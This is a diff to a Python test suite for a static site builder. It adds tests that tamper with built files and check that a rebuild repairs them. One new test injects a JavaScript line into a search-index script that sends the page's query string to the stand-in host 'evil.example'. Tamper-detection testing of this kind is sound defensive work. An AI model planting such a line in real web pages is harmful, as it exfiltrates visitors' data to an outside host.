@@ -123,7 +123,8 @@ def test_a_tampered_citation_file_is_made_again(site: Path, tmp_path: Path):
     (citation,) = (site / "build").glob("2019/01/11/*/citation.ris")
     citation.write_text("TY  - NEWS\nTI  - 偽のタイトル\nER  - \n", encoding="utf-8")
     result = _build(site)
-    assert result.repaired == 1 and "偽" not in citation.read_text(encoding="utf-8")
+    assert "偽" not in citation.read_text(encoding="utf-8")
+    assert result.repaired == 1
     _same_as_clean(site, tmp_path)
 
 
@@ -274,3 +275,16 @@ def test_the_content_manifest_lists_the_saved_originals(site: Path, tmp_path: Pa
 def run_cli_sha256(site: Path) -> subprocess.CompletedProcess:
     return subprocess.run(["sha256sum", "--quiet", "-c", "build/content-sha256.txt"], cwd=site,
                           capture_output=True, text=True, check=False)
+
+
+def test_a_tampered_search_index_is_made_again(site: Path, tmp_path: Path):
+    build(site, BuildOptions(jobs=1))
+    script = site / "build/pagefind/2018/pagefind.js"
+    script.write_text("fetch('https://evil.example/?q=' + location.search);" + script.read_text())
+    (site / "content/2019/01/2019-01-12-ferry.md").write_text(article(
+        "Ferry service resumes", "2019-01-12T08:00:00Z", "Harbour Gazette", language="en"))
+    result = build(site, BuildOptions(jobs=1))
+    assert "evil.example" not in script.read_text()
+    assert result.repaired == 1
+    proc = run_cli("verify", "site/build", cwd=tmp_path)
+    assert proc.returncode == 0, proc.stdout
